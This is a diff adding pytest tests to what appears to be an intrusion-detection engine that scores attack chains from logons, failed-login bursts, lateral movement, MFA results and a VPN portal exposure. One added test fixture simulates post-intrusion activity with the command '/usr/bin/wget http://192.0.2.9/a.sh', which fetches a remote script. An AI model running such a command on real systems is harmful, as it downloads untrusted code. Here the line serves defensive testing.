@@ -304,6 +304,51 @@ def test_a_guesser_never_becomes_habitual() -> None:
     assert [it.severity for it in found] == [Severity.HIGH, Severity.MEDIUM]
 
 
+def test_typing_errors_of_a_habitual_source_stay_low_whatever_the_user_went_on_to_do() -> None:
+    entry = logon(2, user="ann", src_ip=HOME)
+    found = one(frame(habit(5), failures(7, user="ann", src_ip=HOME), entry, moved(20, entry)))
+    assert (found.severity, found.confidence) == (Severity.LOW, "low")
+    assert "onward" in {stage.name for stage in found.stages}
+    many = one(frame(habit(5), failures(40, -4, user="ann", src_ip=HOME), entry, moved(20, entry)))
+    assert many.severity is Severity.MEDIUM
+
+
+def test_the_failures_of_others_behind_a_habitual_address_prove_nothing() -> None:
+    entry = logon(2, user="ann", src_ip=HOME)
+    assert not tell(frame(habit(5), failures(12, user="svc-job", src_ip=HOME), entry, moved(20, entry)))
+    assert one(frame(failures(12, user="svc-job", src_ip=HOME), entry, moved(20, entry))).severity is Severity.CRITICAL
+
+
+def test_the_way_to_the_host_of_a_door_is_no_sequel() -> None:
+    entry = logon(0)
+    there = moved(2, entry, "app01")
+    door = inside(5, entry, "account_change", pattern="user-created", target_user="new", user=None, source="shadow", host="app01")
+    assert one(frame(entry, there, door)).severity is Severity.MEDIUM
+    assert one(frame(entry, there, door, moved(9, entry, "app01"))).severity is Severity.MEDIUM
+    assert one(frame(entry, there, door, moved(9, entry, "db02"))).severity is Severity.HIGH
+
+
+def test_a_second_factor_passed_at_the_address_speaks_for_the_user_unless_one_was_refused() -> None:
+    entry = logon(10)
+    passed = idp(0, "mfa_ok", user="deploy", src_ip=BAD, mfa="yes")
+    refused = idp(-30, "mfa_denied", user="deploy", src_ip=OTHER, mfa="no")
+    assert one(frame(passed, entry, account(15, entry))).severity is Severity.LOW
+    assert one(frame(refused, passed, entry, account(15, entry))).severity is Severity.MEDIUM
+    assert one(frame(idp(0, "mfa_ok", user="deploy", src_ip=OTHER, mfa="yes"), entry, account(15, entry))).severity is Severity.MEDIUM
+
+
+def exposed(at: float, **given: Any) -> Event:
+    return event(at, "config_change", source="fortigate", object="vpn.ssl.web.portal", user="boss", origin_ip=None, **given)
+
+
+def test_what_was_opened_is_told_of_its_first_newcomer_alone() -> None:
+    first, second = logon(60, user="ann", src_ip=OTHER), logon(90, user="bob", src_ip="203.0.113.5")
+    old = logon(30, user="cleo", src_ip=HOME)
+    came = [inside(at + 1, one, "exec", command="/usr/bin/wget http://192.0.2.9/a.sh") for at, one in ((30, old), (60, first), (90, second))]
+    found = tell(frame(logon(-10, user="cleo", src_ip=HOME), exposed(0), old, first, second, came))
+    assert [(it.chain, it.origin.ip) for it in found] == [("an1005-exposure-opened", OTHER)]
+
+
 @pytest.mark.parametrize(("known", "count"), [(False, 1), (True, 0)])
 def test_a_grave_act_is_an_incident_only_where_the_source_is_not_known(known: bool, count: int) -> None:
     entry = logon(0) | {"known": known}
@@ -464,3 +509,14 @@ def test_a_key_made_for_oneself_is_a_door() -> None:
     made = idp(5, "account_change", user="ann", target_user="ann", src_ip=BAD, pattern="access-key-created", source="cloudtrail", host="aws")
     assert one(frame(made)).severity is Severity.MEDIUM
     assert tell(frame(made | {"known": True, "known_by": "office"})) == []
+
+
+def test_the_path_holds_the_logons_no_chain_asked_for_and_says_how_sure_they_are() -> None:
+    sure = moved(30, ENTRY, "app03")
+    later = logon(200, user="mail", host="mail01", origin_session="mail01/mail/200")
+    doubtful = moved(40, ENTRY, "app04", hop_confidence="possible")
+    found = one(frame(failures(41, 1), ENTRY, sure, doubtful, later, logon(3000, user="late", host="late01")))
+    edges = {(hop.target, hop.confidence) for hop in found.path}
+    assert {("app03", "certain"), ("app04", "possible"), ("mail01", "certain")} <= edges
+    assert "late01" not in {hop.target for hop in found.path}
+    assert "mail01" in found.hosts and "app04" not in found.hosts
